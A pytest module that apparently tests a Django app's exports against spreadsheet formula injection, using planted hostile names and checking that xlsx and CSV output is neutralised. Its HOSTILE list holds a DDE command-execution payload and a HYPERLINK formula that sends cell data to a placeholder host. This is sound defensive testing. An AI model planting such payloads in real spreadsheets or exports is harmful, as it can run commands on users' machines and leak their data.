"""Every export endpoint, downloaded over a city whose names are hostile (issue 11 "Safe exports").

Firm, project, chain and segment names, investors, weekly texts and an import file carry
spreadsheet formulas. Every xlsx must open with no formula cell (openpyxl ``data_type == "f"``)
and every CSV cell starting with ``= + - @`` TAB or CR must be a number or neutralised with
``'``; every download has a Chinese RFC 6266 file name. A new download URL without an entry
below fails :func:`test_every_download_url_is_covered`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
import yaml
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from chainboard.accounts.models import User
from chainboard.chains.models import Chain, ChainNode
from chainboard.demo.loader import demo_load
from chainboard.enterprises.models import Enterprise
from chainboard.evaluation.models import EvaluationRun
from chainboard.projects import services
from chainboard.projects.models import Project, ProjectUpdate, week_start
from chainboard_analytics.exports import FORMULA_START

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?d="&C2,"点击查看")',
    "+1",
    "-1+2",
    "@SUM(A1)",
]
MARKERS = ("cmd|", "HYPERLINK", "@SUM", "-1+2")


def _plant(model: Any, field: str, ids: list[int], *, unique: bool = False) -> None:
    """Give the rows hostile values in turn (``unique``: numbered, for unique columns)."""
    if unique:
        for i, pk in enumerate(ids):
            model.objects.filter(pk=pk).update(**{field: f"{HOSTILE[i % len(HOSTILE)]}{i}"})
        return
    for i, name in enumerate(HOSTILE):
        model.objects.filter(pk__in=ids[i :: len(HOSTILE)]).update(**{field: name})


@pytest.fixture
def city() -> dict[str, Any]:
    """The demo city (small), with evaluation runs, chains and projects, then hostile names."""
    from chainboard.chains.demo import demo_step as chains_step
    from chainboard.evaluation.demo import demo_step as evaluation_step
    from chainboard.projects.demo import demo_step as projects_step

    out = io.StringIO()
    demo_load(n_firms=300, seed=11)
    for step in (evaluation_step, chains_step, projects_step):
        step(stdout=out)
    firms = list(Enterprise.objects.order_by("pk").values_list("pk", flat=True))
    _plant(Enterprise, "name", firms)
    chain = Chain.objects.filter(nodes__links__isnull=False).distinct().order_by("pk").first()
    assert chain is not None
    Chain.objects.filter(pk=chain.pk).update(name=HOSTILE[0])
    _plant(ChainNode, "name", list(chain.nodes.values_list("pk", flat=True)), unique=True)
    projects = list(Project.objects.order_by("pk").values_list("pk", flat=True))
    assert projects
    _plant(Project, "name", projects)
    _plant(Project, "investor_name", projects)
    _plant(Project, "responsible_official", projects)
    updates = list(ProjectUpdate.objects.order_by("pk").values_list("pk", flat=True))
    _plant(ProjectUpdate, "done_this_week", updates)
    _plant(ProjectUpdate, "problems", updates)
    week = ProjectUpdate.objects.order_by("-week").values_list("week", flat=True).first()
    month = timezone.localdate().replace(day=1) - dt.timedelta(days=1)
    services.ranking_store(month.replace(day=1), actor=None)
    run = EvaluationRun.objects.order_by("pk").first()
    assert run is not None
    from chainboard.investment.models import Lead  # 招商线索 with hostile names and products

    for i, name in enumerate(HOSTILE):
        Lead.objects.create(
            name=f"{name}{i}", products=name, origin=name, chain=chain, region_id="130528"
        )
    return {"chain": chain, "run": run, "week": week or week_start(timezone.localdate())}


@pytest.fixture
def admin_client(city: dict[str, Any]) -> Client:
    client = Client()
    client.force_login(User.objects.get(username="admin"))
    return client


def _errors_batch(client: Client) -> int:
    """An enterprise import whose rows fail (bad USCC) and carry hostile names."""
    head = "统一社会信用代码,企业名称,行政区划代码,行业代码\n"
    body = "".join(
        f'BAD{i},"{h.replace(chr(34), chr(34) * 2)}",130528,3831\n' for i, h in enumerate(HOSTILE)
    )
    upload = SimpleUploadedFile("企业.csv", (head + body).encode("utf-8"), "text/csv")
    response = client.post(reverse("imports:upload"), {"kind": "enterprises", "file": upload})
    assert response.status_code == 302, response.content[:500]
    match = re.search(r"/(\d+)/$", response["Location"])
    assert match
    return int(match.group(1))


def _job_download(client: Client, url: str, data: dict[str, Any] | None = None) -> str:
    """Start a background job (a PDF) by POSTing ``url``, run the worker: its download URL."""
    from django.core.management import call_command

    response = client.post(url, data or {})
    assert response.status_code == 302, response.content[:500]
    call_command("worker", "--batch", verbosity=0)
    return response["Location"].rstrip("/") + "/download"


def _report_sheet() -> str:
    """The one-firm 填报 sheet of a task over the hostile-named firms."""
    from chainboard.reporting import services as reporting

    task = reporting.task_create(
        actor=User.objects.get(username="admin"),
        title="2025年度亩均评价数据填报",
        year=2025,
        fields=["land_area_mu", "revenue_wan_yuan"],
        deadline=timezone.localdate(),
    )
    entry = task.entries.order_by("pk").first()
    assert entry is not None
    return reverse("reporting:template", args=[entry.pk])


def _chiefs_export(d: dict[str, Any], which: str) -> str:
    """A 攻关清单 item and a 揭榜挂帅 call with hostile texts on the hostile chain."""
    from chainboard.chiefs import services as chiefs

    chain = d["chain"]
    if "item" not in d:
        d["item"] = chiefs.chokepoint_save(
            chain=chain,
            actor=None,
            data={
                "technology": HOSTILE[1],
                "reason": "import",
                "target": HOSTILE[2],
                "domestic_state": HOSTILE[4],
            },
            nodes=list(chain.nodes.all()[:2]),
        )
        chiefs.call_save(
            chokepoint=d["item"],
            actor=None,
            data={
                "title": HOSTILE[0],
                "goal": HOSTILE[3],
                "indicators": HOSTILE[1],
                "budget_wan_yuan": "100",
                "period_months": 12,
            },
        )
    if which == "calls":
        return reverse("chiefs:calls_export")
    return reverse("chiefs:chokepoints_export", args=[chain.pk])


Endpoint = Callable[[Client, dict[str, Any]], str]
# url name → (how to build the URL, expect planted text in it)
ENDPOINTS: dict[str, tuple[Endpoint, bool]] = {
    "chains:export_xlsx": (lambda c, d: reverse("chains:export_xlsx", args=[d["chain"].pk]), True),
    "chains:export_svg": (lambda c, d: reverse("chains:export_svg", args=[d["chain"].pk]), True),
    "chains:export_yaml": (
        lambda c, d: reverse("chains:export_yaml", args=[d["chain"].pk]),
        True,
    ),
    "chains:brief": (
        lambda c, d: _job_download(c, reverse("chains:brief", args=[d["chain"].pk])),
        False,
    ),
    "chiefs:chokepoints_export": (lambda c, d: _chiefs_export(d, "chokepoints"), True),
    "chiefs:calls_export": (lambda c, d: _chiefs_export(d, "calls"), True),
    "enterprises:export": (lambda c, d: reverse("enterprises:export"), True),
    "evaluation:export": (lambda c, d: reverse("evaluation:export", args=[d["run"].pk]), True),
    "jobs:download": (
        lambda c, d: _job_download(c, reverse("evaluation:bulletin", args=[d["run"].pk])),
        False,
    ),
    "evaluation:tiers?export": (
        lambda c, d: reverse("evaluation:tiers") + "?export=1&status=far&year=2025",
        True,
    ),
    "imports:errors": (lambda c, d: reverse("imports:errors", args=[_errors_batch(c)]), True),
    "projects:alerts_export": (lambda c, d: reverse("projects:alerts_export"), False),
    "imports:template": (lambda c, d: reverse("imports:template", args=["enterprises"]), False),
    "reporting:template": (lambda c, d: _report_sheet(), True),
    "projects:export": (lambda c, d: reverse("projects:export"), True),
    "investment:export": (lambda c, d: reverse("investment:export"), True),
    "projects:ranking_csv": (lambda c, d: reverse("projects:ranking_csv"), False),
    "projects:report_chains": (lambda c, d: reverse("projects:report_chains"), True),
    "projects:report_weekly": (
        lambda c, d: reverse("projects:report_weekly", args=["xlsx"]) + f"?week={d['week']}",
        True,
    ),
    "projects:report_weekly.pdf": (
        lambda c, d: _job_download(
            c, reverse("projects:report_weekly", args=["pdf"]), {"week": d["week"]}
        ),
        False,
    ),
    "projects:report_monthly": (
        lambda c, d: reverse("projects:report_monthly", args=["xlsx"]),
        False,
    ),
    "projects:report_monthly.pdf": (
        lambda c, d: _job_download(c, reverse("projects:report_monthly", args=["pdf"])),
        False,
    ),
}
ENDPOINTS["projects:assessment_pdf"] = (
    lambda c, d: _job_download(
        c, reverse("projects:assessment_pdf"), {"year": str(timezone.localdate().year), "h": "1"}
    ),
    False,
)
DOWNLOAD_ROUTE = re.compile(r"(export|xlsx|csv|pdf|svg|report_)", re.IGNORECASE)


def _patterns(resolver: URLResolver, namespace: str = "") -> Iterator[tuple[str, str]]:
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
            yield from _patterns(p, ns)
        elif isinstance(p, URLPattern) and p.name:
            yield f"{namespace}{p.name}", str(p.pattern)


def test_every_download_url_is_covered() -> None:
    covered = {key.split("?")[0].split(".")[0] for key in ENDPOINTS}
    downloads = {
        name
        for name, route in _patterns(get_resolver())
        if not name.startswith("api")
        and (DOWNLOAD_ROUTE.search(route) or DOWNLOAD_ROUTE.search(name.split(":")[-1]))
        and not name.endswith(("reports", "page"))
    }
    assert downloads - covered == set(), "add the new download endpoint to ENDPOINTS"


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _xlsx_cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


def test_every_export_is_safe_and_named_in_chinese(
    admin_client: Client, city: dict[str, Any], run_worker: Any
) -> None:
    # run_worker keeps the test's connection open when the bulletin's job runs (PostgreSQL)
    problems: list[str] = []
    for key, (build, planted) in ENDPOINTS.items():
        url = build(admin_client, city)
        response = admin_client.get(url)
        if response.status_code != 200:
            problems.append(f"{key}: HTTP {response.status_code}")
            continue
        disposition = response.get("Content-Disposition", "")
        name = unquote(disposition.partition("filename*=UTF-8''")[2])
        if not name or not re.search(r"[\u4e00-\u9fff]", name):
            problems.append(f"{key}: no Chinese file name in {disposition!r}")
        data = _body(response)
        text_seen = ""
        if name.endswith(".xlsx"):
            cells = _xlsx_cells(data)
            formulas = [c.coordinate for c in cells if c.data_type == "f"]
            if formulas:
                problems.append(f"{key}: formula cells {formulas[:5]}")
            text_seen = "\n".join(str(c.value) for c in cells if isinstance(c.value, str))
        elif name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
            if len(rows) < 2:
                problems.append(f"{key}: empty CSV")
            for row in rows:
                for value in row:
                    if value.startswith(FORMULA_START) and not _is_number(value):
                        problems.append(f"{key}: live CSV cell {value!r}")
            text_seen = data.decode("utf-8-sig")
        elif name.endswith(".yaml"):  # the chain template: must read back as data, nothing else
            text_seen = data.decode("utf-8")
            assert isinstance(yaml.safe_load(text_seen), dict), key
        elif name.endswith(".svg"):
            text_seen = data.decode("utf-8")
            assert "<svg" in text_seen
        else:
            assert name.endswith(".pdf") and data.startswith(b"%PDF"), key
        if planted and not any(m in text_seen for m in MARKERS):
            problems.append(f"{key}: no planted text found")
    assert problems == []


# spreadsheet/CSV writers outside the shared one, and why each is allowed
OTHER_WRITERS = {
    "chainboard_analytics/exports.py": "the shared writer itself",
    "chainboard/imports/templates_xlsx.py": "blank import template, opened with WORKBOOK_OPTIONS",
    "chainboard/evaluation/inputs.py": "CSV text hashed for the inputs fingerprint, never a file",
    "chainboard_analytics/strategy/cli.py": "numeric analytics tables over reference-data codes",
}
WRITER_CALL = re.compile(
    r"xlsxwriter\.Workbook\(|\.to_excel\(|ExcelWriter\(|csv\.(Dict)?[wW]riter\(|\.to_csv\("
)


def test_no_export_bypasses_the_shared_writer() -> None:
    src = Path(__file__).resolve().parents[2] / "src"
    found = {
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if WRITER_CALL.search(path.read_text(encoding="utf-8"))
    }
    assert found - set(OTHER_WRITERS) == set(), (
        "write xlsx/CSV through chainboard_analytics.exports"
    )
